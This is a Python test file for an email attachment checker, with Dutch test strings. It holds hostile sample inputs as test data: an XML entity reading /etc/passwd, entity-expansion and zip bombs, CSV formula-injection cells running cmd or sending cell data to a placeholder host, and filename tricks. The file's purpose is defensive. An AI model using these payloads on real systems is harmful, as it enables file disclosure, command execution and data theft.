"""What may not go along at all, by name or content, and files in files."""

import pytest

from mailer.checks.attachments import check_attachment, check_total
from mailer.checks.attachments.files import Allowance, File, Spent
from mailer.checks.attachments.packages import Package
from mailer.findings import Place
from tests.documents import CLEAN, PROGRAM, docx, docx_with, mail, ole, pdf, xlsx, zipped

PLACE = Place(file="releases/proef.toml", line=7)
ICS = b"BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\n"
COMMENTED = docx(comments="<comments><comment><t>Echt?</t></comment></comments>")


def _codes(file: str, content: bytes) -> list[str]:
    found = check_attachment(file, content, PLACE)
    return [f.code.removeprefix("attachment-") for f in found]


@pytest.mark.parametrize("content", [b"", b" \r\n\t", b"\xef\xbb\xbf", bytes(4096)])
def test_an_empty_file_stops(content: bytes) -> None:
    """White space and the NULs of a file that never arrived are empty too."""
    assert _codes("a.pdf", content) == ["empty"]


@pytest.mark.parametrize(
    ("file", "content"),
    [
        ("a.exe", PROGRAM),
        ("rapport.pdf.exe", b"tekst"),
        ("rapport.pdf.js ", b"tekst"),
        ("a.SCR.", b"tekst"),
        ("rapport.pdf", PROGRAM),
        ("rapport", b"\x7fELF\x02"),
        ("rapport.txt", b"#!/bin/sh\nrm"),
        ("rapport.docx", b"L\0\0\0\x01\x14\x02\0"),
        ("a.txt", b"[InternetShortcut]\nURL=x"),
        ("a.dat", bytes(0x8001) + b"CD001"),
        ("a.jar", zipped({"META-INF/MANIFEST.MF": "x", "A.class": b"\xca\xfe\xba\xbe"})),
        ("a.zip", zipped({"map/verslag.pdf.exe": PROGRAM})),
        ("a.dat", ole(clsid=bytes.fromhex("84100c0000000000c000000000000046"))),
    ],
)
def test_programs_stop_by_name_and_by_content(file: str, content: bytes) -> None:
    """Two extensions, dots and spaces behind the name, shortcuts, disc images, installers."""
    assert set(_codes(file, content)) == {"executable"}


@pytest.mark.parametrize(
    ("file", "content"),
    [
        ("verslag.docx.pdf", pdf()),
        ("mz.txt", b"MZ-overleg van 4 oktober"),
        ("a.txt", "Dag, BEGIN:VCALENDAR is geen agenda".encode("utf-16")),
        ("foto.jpg", b"\x89PNG\r\n"),
        ("a.csv", b"naam;adres\r\n"),
        ("a.zip", zipped({"b/c.docx": docx(), "d.txt": "x"})),
        ("Verslag Coënraads (def).docx", docx()),
    ],
)
def test_ordinary_files_are_left_alone(file: str, content: bytes) -> None:
    """Also where a name or a first letter looks like something worse."""
    assert _codes(file, content) == []


@pytest.mark.parametrize(
    ("file", "content"),
    [
        ("a.docx", b"<html><body>Dag</body></html>"),
        ("a.docx", xlsx("<sheetData><row><c><v>1</v></c></row></sheetData>")),
        ("a.docx", zipped({"a.txt": "x"})),
        ("a.pdf", b"Dit is geen PDF"),
        ("a.pdf", docx()),
        ("a.zip", docx()),
    ],
)
def test_a_file_that_is_not_what_its_name_says_stops(file: str, content: bytes) -> None:
    """It would not open at the recipient."""
    assert _codes(file, content) == ["disguised"]


@pytest.mark.parametrize("name", ["rapport\u202efdp.docx", "a\u200b.docx", "a\x07.docx"])
def test_a_name_with_unseen_characters_stops(name: str) -> None:
    """The name is shown with them made visible."""
    (found,) = check_attachment(name, docx(), PLACE)
    assert found.code == "attachment-name"
    assert "\\" in found.message


@pytest.mark.parametrize(
    ("file", "content"),
    [
        ("a.ics", b"wat dan ook"),
        ("agenda.txt", ICS),
        ("agenda.txt", b"\xef\xbb\xbf\r\n begin:vcalendar"),
        ("agenda.txt", "BEGIN:VCALENDAR".encode("utf-16")),
        ("a.eml", b"Subject: x\r\nContent-Type: text/calendar; method=REQUEST\r\n\r\n" + ICS),
        ("a.txt", b"MIME-Version: 1.0\r\nContent-Type: text/calendar\r\n\r\nx"),
        ("a.zip", zipped({"map/agenda.dat": ICS})),
        ("a.msg", ole(
            ("__properties_version1.0", b"x"),
            ("__substg1.0_001A001F", "IPM.Schedule.Meeting.Request".encode("utf-16-le")),
        )),
        ("winmail.dat", b"\x78\x9f\x3e\x22IPM.Microsoft Schedule.MtgReq\0"),
    ],
)  # fmt: skip
def test_i23_a_meeting_request_stops_wherever_it_is(file: str, content: bytes) -> None:
    """By name, by content, in a mail, an Outlook item or an archive."""
    assert "calendar" in _codes(file, content)


CLASS = "__substg1.0_001A001F"
INVITATION = b"MIME-Version: 1.0\r\nContent-Type: text/calendar\r\n\r\n" + ICS
FORWARDED = "__attach_version1.0_#00000000/__substg1.0_3701000D"


def _item(kind: str, inside: str = "") -> list[tuple[str, bytes]]:
    below = f"{inside}/" if inside else ""
    written = f"IPM.{kind}\0".encode("utf-16-le")
    return [(f"{below}__properties_version1.0", b"x"), (f"{below}{CLASS}", written)]


@pytest.mark.parametrize(
    ("file", "content"),
    [
        ("a.msg", ole(*_item("Note"), *_item("Schedule.Meeting.Request", FORWARDED))),
        ("a.eml", mail(("application/octet-stream", ICS))),
        ("a.eml", mail(("message/rfc822", INVITATION))),
        ("a.eml", mail(*[("text/plain", b"x")] * 498, ("text/calendar", ICS))),
        ("a.txt", b" " * 5_000 + b"\r\n" * 5_000 + ICS),
        ("a.txt", ICS.decode().encode("utf-16-le")),
        ("a.txt", ("\n " + ICS.decode()).encode("utf-16-be")),
        ("a.txt", ICS.decode().encode("utf-32")),
        ("a.txt", ICS.decode().encode("utf-32-be")),
    ],
)
def test_i23_a_meeting_request_stops_however_it_is_wrapped(file: str, content: bytes) -> None:
    """Inside another item, in a part without a name, in base64, behind blanks, in wide letters."""
    assert _codes(file, content) == ["calendar"]


@pytest.mark.parametrize(
    ("file", "content"),
    [
        ("a.msg", ole(*_item("Note"), *_item("Note", FORWARDED))),
        ("a.eml", mail(("text/plain", b"Dag allen"), ("text/html", b"<html><p>Dag</p></html>"))),
        ("a.eml", mail(("message/rfc822", b"MIME-Version: 1.0\r\n\r\nDag BEGIN:VCALENDAR"))),
        ("a.txt", "Dag allen, tot vrijdag.".encode("utf-16-le")),
    ],
)
def test_a_forwarded_mail_that_invites_nobody_is_left_alone(file: str, content: bytes) -> None:
    """The same wrappings around what is only a text."""
    assert _codes(file, content) == []


def test_i23_what_is_not_looked_at_in_a_mail_is_told() -> None:
    """A mail of more parts than are looked at, or of parts in parts without end."""
    parts = [("text/plain", b"x")] * 600
    assert _codes("a.eml", mail(*parts, ("text/calendar", ICS))) == ["closed"]
    nested = (f"Content-Type: multipart/mixed; boundary=b{n}\n\n--b{n}\n" for n in range(1_000))
    assert _codes("a.eml", ("MIME-Version: 1.0\n" + "".join(nested)).encode()) == ["closed"]


def test_i24_a_part_of_a_mail_without_a_name_is_looked_into() -> None:
    """The finding says which part it is."""
    content = mail(("text/plain", b"Dag"), ("application/octet-stream", COMMENTED))
    (found,) = check_attachment("a.eml", content, PLACE)
    assert found.code == "attachment-comments"
    assert "3" in found.message


def test_an_ordinary_mail_as_attachment_is_looked_into() -> None:
    """Its text is nobody's meeting; the files in it are checked as if attached themselves."""
    head = b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n"
    part = (
        b"Content-Type: application/pdf\r\nContent-Disposition: attachment; filename=a.pdf\r\n\r\n"
    )
    assert _codes("a.eml", head + part + pdf() + b"\r\n--b--") == []
    assert _codes("a.eml", head + part.replace(b".pdf", b".exe") + b"x\r\n--b--") == ["executable"]


def test_i24_files_in_archives_and_documents_are_looked_into() -> None:
    """The finding names the way to the file."""
    nested = zipped({"stukken/binnen.zip": zipped({"verslag.docx": COMMENTED})})
    (found,) = check_attachment("a.zip", nested, PLACE)
    assert found.code == "attachment-comments"
    assert "a.zip › stukken/binnen.zip › verslag.docx" in found.message
    assert _codes("a.docx", docx_with({"word/embeddings/b.docx": COMMENTED})) == ["comments"]


def test_what_is_locked_or_of_another_archive_cannot_be_looked_into() -> None:
    """A person's word is asked; the names in a locked archive are still seen."""
    locked = bytearray(zipped({"a.exe": "x"}))
    entry = locked.index(b"PK\x01\x02")
    locked[6], locked[entry + 8] = 1, 1
    assert _codes("a.zip", bytes(locked)) == ["closed", "executable"]
    assert _codes("a.7z", b"7z\xbc\xaf\x27\x1c") == ["closed"]
    assert _codes("a.docx", ole(("EncryptedPackage", b"x"))) == ["closed"]


def test_i29_a_zip_bomb_is_not_unpacked() -> None:
    """By what it says it unpacks to, and by what it does unpack to, at any depth."""
    big = zipped({"a.txt": bytes(60 * 2**20)})
    assert _codes("a.zip", zipped({f"{n}.zip": big for n in range(2)})) == []
    assert "closed" in _codes("a.zip", zipped({f"{n}.zip": big for n in range(4)}))
    lying = bytearray(zipped({"word/document.xml": CLEAN}))
    entry = lying.index(b"PK\x01\x02")
    lying[entry + 24 : entry + 28] = (2**32 - 2).to_bytes(4, "little")
    assert _codes("a.docx", bytes(lying)) == ["bomb"]


def test_i29_archives_deeper_than_sense_are_not_followed() -> None:
    """What was not looked into is said."""
    content = b"x"
    for _level in range(9):
        content = zipped({"a.zip": content})
    assert _codes("a.zip", content) == ["closed"]


def test_i29_archives_of_many_small_files_end() -> None:
    """What is left over after the work an attachment is worth is told, once."""
    inner = zipped({f"{number}.txt": "x" for number in range(2_000)})
    assert "closed" in _codes("a.zip", zipped({f"{number}.zip": inner for number in range(20)}))
    file = File(name="a", content=inner, own_name="a", allowance=Allowance(1_000_000))
    with pytest.raises(Spent):
        Package(file)


def test_two_files_of_the_same_name_in_a_zip_are_told() -> None:
    """One program opens the first of them, another the last."""
    content = zipped({"word/document1.xml": CLEAN, "word/document2.xml": CLEAN})
    assert _codes("a.zip", content) == []
    assert _codes("a.zip", content.replace(b"document2", b"document1")) == ["closed"]


def test_a_file_without_a_name_in_a_zip_is_looked_into() -> None:
    """A name that begins with NUL is read as none."""
    content = zipped({"a.bin": PROGRAM, "b.docx": COMMENTED}).replace(b"a.bin", b"\0.bin")
    assert _codes("a.zip", content) == ["executable", "comments"]


@pytest.mark.parametrize(
    "entity",
    [
        '<!ENTITY a "x"><!ENTITY b "&a;&a;&a;">',
        '<!ENTITY a SYSTEM "file:///etc/passwd">',
    ],
)
def test_i29_entities_are_not_expanded(entity: str) -> None:
    """Neither those that multiply nor those that read a file of this computer."""
    document = f"<!DOCTYPE d [{entity}]><d>&a;</d>"
    assert _codes("a.docx", docx_with({"word/extra.xml": document})) == ["bomb"]


def test_i29_a_file_of_mere_tags_ends() -> None:
    """A small file of many tags costs more of the allowance than its bytes."""
    content = zipped({"a.xml": "<p>" * 5_000})
    file = File(name="a", content=content, own_name="a", allowance=Allowance(100_000))
    with pytest.raises(Spent):
        list(Package(file).nodes("a.xml"))


@pytest.mark.parametrize(
    ("file", "content", "codes"),
    [
        ("a.docx", docx(), {"broken"}),
        ("a.pdf", pdf(), {"broken"}),
        ("a.xls", ole(("Workbook", b"x" * 99)), {"broken", "closed"}),
    ],
)
def test_a_file_that_was_cut_off_is_a_finding(file: str, content: bytes, codes: set[str]) -> None:
    """At whatever byte; never an error of the program."""
    for length in range(9, len(content) - 30, 37):
        found = _codes(file, content[:length])
        assert found
        assert set(found) <= codes


def test_scripts_in_pages_and_drawings_are_found() -> None:
    """A page without one is only a page."""
    assert _codes("a.html", b"<html><script>x</script></html>") == ["active"]
    assert _codes("a.svg", b'<svg xmlns="x" onload="y()"/>') == ["active"]
    assert _codes("a.html", b"<html><p>Inschrijving op maandag</p></html>") == []


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-32", "utf-32-be"])
def test_scripts_in_wide_letters_are_found(encoding: str) -> None:
    """With a mark at the start or without."""
    page = "<html><p>Dag</p>{}</html>"
    assert _codes("a.html", page.format("<script>x</script>").encode(encoding)) == ["active"]
    assert _codes("a.svg", "<svg onload='x'/>".encode(encoding)) == ["active"]
    assert _codes("a.html", page.format("").encode(encoding)) == []


@pytest.mark.parametrize(
    "cell",
    [
        "=cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        '"=HYPERLINK(""https://x.example/?""&A1)"',
        "@SUM(A1:A9)",
        "= SOM(A1)",
        "=A1+1",
        '="a"&HYPERLINK("x")',
    ],
)
def test_i29_a_formula_in_a_table_of_text_is_told(cell: str) -> None:
    """Excel runs it for whoever opens the file; in a text that is no table it is text."""
    for table in (f"naam;bedrag\n{cell};1\n", f"naam\tbedrag\r\nA\t{cell}\r\n"):
        assert _codes("a.csv", table.encode()) == ["active"]
        assert _codes("a.csv", table.encode("utf-16")) == ["active"]
        assert _codes("a.txt", table.encode()) == []


@pytest.mark.parametrize(
    "cell",
    [
        '="0612"',
        '"=""0612"""',
        "-5",
        "+31 592 36 55 55",
        "-naam (x)",
        "=",
        "== x ==",
        "= 12",
        "@emmen",
    ],
)
def test_a_cell_that_only_begins_like_a_formula_is_left_alone(cell: str) -> None:
    """Numbers, rules of signs, and the way to keep a leading zero."""
    assert _codes("a.csv", f"{cell};tekst a=b;{cell}\n{cell}".encode()) == []


def test_attachments_together_stay_below_the_limit() -> None:
    """As they travel: a third more than the files, with line ends."""
    assert list(check_total([("a.pdf", 7_600_000)], 10 * 2**20, PLACE)) == []
    (found,) = check_total([("a.pdf", 4_000_000), ("b.pdf", 4_000_000)], 10 * 2**20, PLACE)
    assert found.code == "attachments-too-large"
    assert "a.pdf" in found.message
    assert list(check_total([], 10, PLACE)) == []


def test_the_workbook_of_a_chart_is_no_finding() -> None:
    """It is a part of the document, which charts always carry along."""
    sheet = xlsx("<sheetData><row><c><v>1</v></c></row></sheetData>")
    assert _codes("a.docx", docx_with({"word/embeddings/Microsoft_Excel_Sheet.xlsx": sheet})) == []
